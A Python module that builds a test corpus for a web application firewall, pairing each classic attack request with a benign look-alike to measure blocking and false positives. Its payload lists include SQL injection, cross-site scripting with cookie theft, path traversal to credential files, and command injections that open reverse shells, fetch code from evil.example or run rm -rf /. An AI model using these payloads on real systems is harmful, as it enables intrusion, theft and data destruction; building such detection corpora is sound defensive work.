"""A detection corpus for the WAF: attack requests, each with a benign twin.

Why twins: a blocked rate alone rewards a WAF that blocks everything. Each attack here has a
twin that reaches the same place in the request (the same parameter, header, cookie or body
type) with a value a real user could send, often one that shares words with the attack
("union square", "drop shipping", "O'Brien", "cat pictures"): the false-positive rate is
measured on the twins. Written for Verge after reading the categories of the OWASP CRS's
own regression tests (coreruleset/tests/regression), which Debian's package does not ship;
the payloads are the classic public probes of each class, not copied test files.

Categories: sqli, xss, traversal (path traversal and local file inclusion), rce (command
injection, code injection, remote file inclusion), scanner (security-scanner user agents).
Values go URL-encoded in query strings and form bodies, as tools send them.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from urllib.parse import quote

from verge.http.message import Request

__all__ = ["ATTACKS", "BENIGN", "Case", "pairs"]

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


@dataclass(frozen=True)
class Case:
    """One request of the corpus."""

    category: str
    name: str
    method: str
    target: str
    extra_headers: tuple[tuple[str, str], ...] = ()
    body: bytes | None = None
    attack: bool = True
    user_agent: str = BROWSER

    def request(self) -> tuple[Request, bytes | None]:
        """The request as the edge hands it to the WAF, and its body."""
        headers = [
            ("Host", "shop.example.com"),
            ("User-Agent", self.user_agent),
            ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
            ("Accept-Language", "en-US,en;q=0.5"),
            ("Accept-Encoding", "gzip, deflate, br"),
            *self.extra_headers,
        ]
        if self.body is not None:
            headers.append(("Content-Length", str(len(self.body))))
        return Request(self.method, self.target, headers=headers, client="198.51.100.7"), self.body


def _query(path: str, param: str, value: str) -> str:
    return f"{path}?{param}={quote(value, safe='')}"


def _get(category: str, path: str, param: str, attack: str, benign: str) -> tuple[Case, Case]:
    return (
        Case(category, f"{param}={attack[:50]!r}", "GET", _query(path, param, attack)),
        Case(
            category, f"{param}={benign[:50]!r}", "GET", _query(path, param, benign), attack=False
        ),
    )


def _form(category: str, path: str, fields: dict[str, tuple[str, str]]) -> tuple[Case, Case]:
    """fields: name -> (attack value, benign value)."""
    bodies = [
        "&".join(f"{k}={quote(v[index], safe='')}" for k, v in fields.items()).encode()
        for index in (0, 1)
    ]
    header = (("Content-Type", "application/x-www-form-urlencoded"),)
    return (
        Case(category, f"form {bodies[0][:50]!r}", "POST", path, header, bodies[0]),
        Case(category, f"form {bodies[1][:50]!r}", "POST", path, header, bodies[1], attack=False),
    )


def _json(category: str, path: str, attack: dict, benign: dict) -> tuple[Case, Case]:
    header = (("Content-Type", "application/json"),)
    bodies = [json.dumps(value) for value in (attack, benign)]
    return (
        Case(category, f"json {bodies[0][:50]}", "POST", path, header, bodies[0].encode()),
        Case(
            category,
            f"json {bodies[1][:50]}",
            "POST",
            path,
            header,
            bodies[1].encode(),
            attack=False,
        ),
    )


def _header(category: str, path: str, header: str, attack: str, benign: str) -> tuple[Case, Case]:
    names = [f"{header}: {value[:50]!r}" for value in (attack, benign)]
    if header == "User-Agent":
        return (
            Case(category, names[0], "GET", path, user_agent=attack),
            Case(category, names[1], "GET", path, user_agent=benign, attack=False),
        )
    return (
        Case(category, names[0], "GET", path, ((header, attack),)),
        Case(category, names[1], "GET", path, ((header, benign),), attack=False),
    )


def _path(category: str, attack: str, benign: str) -> tuple[Case, Case]:
    return (
        Case(category, f"path {attack[:50]!r}", "GET", attack),
        Case(category, f"path {benign[:50]!r}", "GET", benign, attack=False),
    )


SQLI = [
    _get("sqli", "/product", "id", "1' OR '1'='1", "1"),
    _get("sqli", "/product", "id", "1 OR 1=1", "12"),
    _get(
        "sqli",
        "/search",
        "q",
        "1' UNION SELECT username, password FROM users--",
        "union square hotels",
    ),
    _get("sqli", "/search", "q", "1; DROP TABLE users--", "drop shipping guide"),
    _get("sqli", "/login", "user", "admin'--", "admin"),
    _get("sqli", "/product", "id", "1' AND SLEEP(5)--", "1"),
    _get("sqli", "/report", "year", "1 AND 1=CONVERT(int,@@version)", "2024"),
    _get("sqli", "/search", "q", "' OR 1=1#", "or gate logic"),
    _get(
        "sqli", "/product", "id", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "2"
    ),
    _get("sqli", "/product", "id", "1 UNION ALL SELECT NULL,NULL,NULL--", "3"),
    _get("sqli", "/product", "id", "1'; WAITFOR DELAY '0:0:5'--", "4"),
    _get(
        "sqli",
        "/list",
        "cat",
        "-1' UNION SELECT 1,group_concat(table_name) FROM information_schema.tables--",
        "group chat apps",
    ),
    _get("sqli", "/product", "id", "1' AND extractvalue(1,concat(0x7e,version()))--", "5"),
    _get("sqli", "/product", "id", "1' AND updatexml(1,concat(0x7e,user()),1)--", "6"),
    _get("sqli", "/order", "ref", "1'; EXEC xp_cmdshell('dir')--", "A-1042"),
    _get("sqli", "/search", "q", "' or ''='", "orange juice"),
    _get(
        "sqli",
        "/product",
        "id",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "7",
    ),
    _get("sqli", "/list", "sort", "1' ORDER BY 10--", "price"),
    _get("sqli", "/product", "id", "1) OR (1=1", "8"),
    _get("sqli", "/search", "q", "x' AND benchmark(10000000,md5(1))--", "benchmark results"),
    _get("sqli", "/product", "id", "1' or pg_sleep(5)--", "9"),
    _get("sqli", "/search", "q", "' HAVING 1=1--", "having fun outdoors"),
    _get("sqli", "/user", "name", "x' AND 1=(SELECT 1 FROM dual WHERE 1=1)--", "O'Brien"),
    _json(
        "sqli",
        "/api/login",
        {"username": "admin' OR '1'='1", "password": "x"},
        {"username": "admin", "password": "hunter2"},
    ),
    _form("sqli", "/login", {"user": ("admin' OR 1=1--", "alice"), "pass": ("x", "s3cret")}),
    _header("sqli", "/account", "Cookie", "session=1' OR '1'='1", "session=abc123def456"),
]

XSS = [
    _get("xss", "/search", "q", "<script>alert(1)</script>", "script writing tips"),
    _get("xss", "/search", "q", "<img src=x onerror=alert(1)>", "image gallery"),
    _get("xss", "/search", "q", "<svg onload=alert(1)>", "svg icons"),
    _get(
        "xss",
        "/redirect",
        "url",
        "javascript:alert(document.cookie)",
        "https://shop.example.com/cart",
    ),
    _get("xss", "/search", "q", '"><script>alert(1)</script>', '"quoted text"'),
    _get("xss", "/search", "q", "<body onload=alert(1)>", "body lotion"),
    _get("xss", "/search", "q", "<iframe src=javascript:alert(1)>", "iframe tutorial"),
    _get("xss", "/comment", "text", '<a href="javascript:alert(1)">x</a>', "a link to the docs"),
    _get(
        "xss",
        "/profile",
        "bio",
        '<div style="background:url(javascript:alert(1))">',
        "div styling in css",
    ),
    _get(
        "xss",
        "/search",
        "q",
        "<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>",
        "character codes table",
    ),
    _get(
        "xss",
        "/search",
        "q",
        '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
        "base64 decoder",
    ),
    _get("xss", "/search", "q", "<details open ontoggle=alert(1)>", "product details page"),
    _get("xss", "/search", "q", "<input autofocus onfocus=alert(1)>", "input field"),
    _get("xss", "/search", "q", '<object data="javascript:alert(1)">', "object storage"),
    _get(
        "xss",
        "/search",
        "q",
        '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "embedded systems",
    ),
    _get(
        "xss",
        "/search",
        "q",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "math table",
    ),
    _get("xss", "/page", "name", "'-alert(1)-'", "mid-century"),
    _get("xss", "/search", "q", "<marquee onstart=alert(1)>", "marquee lights"),
    _get(
        "xss",
        "/search",
        "q",
        "document.location='http://evil.example/?c='+document.cookie",
        "location services",
    ),
    _header("xss", "/", "Referer", "<script>alert(1)</script>", "https://www.example.org/"),
    _json(
        "xss",
        "/api/comments",
        {"comment": "<script>alert(1)</script>"},
        {"comment": "great post, thanks!"},
    ),
    _form("xss", "/comment", {"comment": ("<img src=x onerror=alert(1)>", "nice picture")}),
    _get(
        "xss", "/search", "q", "<style>@import'http://evil.example/x.css';</style>", "style guide"
    ),
    _get("xss", "/search", "q", "<link rel=import href=http://evil.example/x>", "link rel"),
    _get("xss", "/search", "q", "<x onclick=alert(1)>click", "click here"),
]

TRAVERSAL = [
    _get("traversal", "/download", "file", "../../../../etc/passwd", "reports/2024.pdf"),
    _get("traversal", "/download", "path", "..%2f..%2f..%2fetc%2fshadow", "docs%2Fguide.pdf"),
    _path("traversal", "/static/../../../etc/passwd", "/static/css/site.css"),
    _get("traversal", "/index.php", "page", "....//....//....//etc/passwd", "about"),
    _get("traversal", "/view", "f", "/etc/passwd", "about.txt"),
    _get("traversal", "/view", "f", "..\\..\\..\\windows\\win.ini", "windows-setup-guide"),
    _path("traversal", "/view?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/view?f=file.txt"),
    _get("traversal", "/index.php", "include", "/proc/self/environ", "header"),
    _get("traversal", "/render", "template", "../../../../boot.ini", "default"),
    _path("traversal", "/view?f=..%252f..%252f..%252fetc%252fpasswd", "/view?f=report%2520final"),
    _get("traversal", "/show", "doc", "/var/log/apache2/access.log", "changelog"),
    _get("traversal", "/show", "f", "../.htaccess", "readme"),
    _get("traversal", "/show", "cfg", "../../config/database.yml", "dark-theme"),
    _get("traversal", "/show", "file", "....\\/....\\/etc/hosts", "hosts-list"),
    _get("traversal", "/img", "load", "/etc/shadow\x00.jpg", "photo.jpg"),
    _path("traversal", "/..;/..;/..;/etc/passwd", "/api/users"),
    _get("traversal", "/show", "f", "C:\\boot.ini", "boot-camp"),
    _path("traversal", "/.git/config", "/git-tutorial"),
    _path("traversal", "/.htpasswd", "/passwords-guide"),
    _get("traversal", "/show", "file", "file:///etc/passwd", "profile"),
]

RCE = [
    _get("rce", "/tools/ping", "cmd", ";cat /etc/passwd", "status"),
    _get("rce", "/tools/ping", "host", "127.0.0.1;id", "127.0.0.1"),
    _get("rce", "/tools/ping", "ip", "8.8.8.8 | nc -e /bin/sh 10.0.0.1 4444", "8.8.8.8"),
    _get("rce", "/search", "q", "$(whoami)", "who am i"),
    _get("rce", "/search", "q", "`uname -a`", "uname"),
    _get("rce", "/files", "name", "x; rm -rf /", "x-ray"),
    _get("rce", "/tools", "name", "a&&wget http://evil.example/x.sh", "salt and pepper"),
    _get("rce", "/tools", "x", ";bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "bash tutorial"),
    _get(
        "rce", "/tools", "cmd", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "power settings"
    ),
    _get("rce", "/search", "q", "system('id')", "system requirements"),
    _get("rce", "/search", "x", "<?php system($_GET['c']); ?>", "php tutorial"),
    _get("rce", "/search", "q", "${jndi:ldap://evil.example/a}", "jenkins pipelines"),
    _header(
        "rce",
        "/cgi-bin/status",
        "User-Agent",
        '() { :; }; /bin/bash -c "id"',
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
    ),
    _get("rce", "/tools/ping", "q", "|ping -c 4 127.0.0.1", "ping pong table"),
    _get("rce", "/tools", "q", ";curl http://evil.example/x|sh", "curl hair tips"),
    _get("rce", "/search", "q", "eval(base64_decode('ZWNobyAxOw=='))", "evaluation form"),
    _get("rce", "/search", "x", "\ncat /etc/passwd", "cat pictures"),
    _form("rce", "/admin/run", {"cmd": ("ls -la;cat /etc/shadow", "list")}),
    _json("rce", "/api/check", {"host": "localhost; nc -lvp 4444"}, {"host": "localhost"}),
    _get("rce", "/fetch", "url", "http://169.254.169.254/latest/meta-data/", "/latest/news"),
    _get(
        "rce", "/index.php", "lang", "php://filter/convert.base64-encode/resource=index.php", "en"
    ),
    _get("rce", "/search", "x", 'java.lang.Runtime.getRuntime().exec("id")', "java runtime"),
    _get("rce", "/index.php", "page", "http://evil.example/shell.txt?", "home"),
]

SCANNERS = [
    _header("scanner", "/", "User-Agent", ua, benign)
    for ua, benign in [
        (
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
        ),
        (
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile",
        ),
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ),
        (
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ),
        (
            "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
            "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/126.0 Mobile",
        ),
        (
            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        ),
        ("gobuster/3.6", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Chrome/125.0"),
        (
            "Fuzz Faster U Fool v2.1.0-dev",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            "Mozilla/5.0 (compatible; OpenVAS-VT 22.4.1)",
            "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
        ),
        ("Wfuzz/3.1.0", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15"),
        (
            "commix/v3.9 (https://commixproject.com)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Edg/126.0",
        ),
    ]
]

_PAIRS = [*SQLI, *XSS, *TRAVERSAL, *RCE, *SCANNERS]
ATTACKS: list[Case] = [attack for attack, _ in _PAIRS]
BENIGN: list[Case] = [benign for _, benign in _PAIRS]


def pairs(category: str | None = None) -> list[tuple[Case, Case]]:
    """(attack, benign twin) pairs, optionally of one category."""
    return [pair for pair in _PAIRS if category is None or pair[0].category == category]
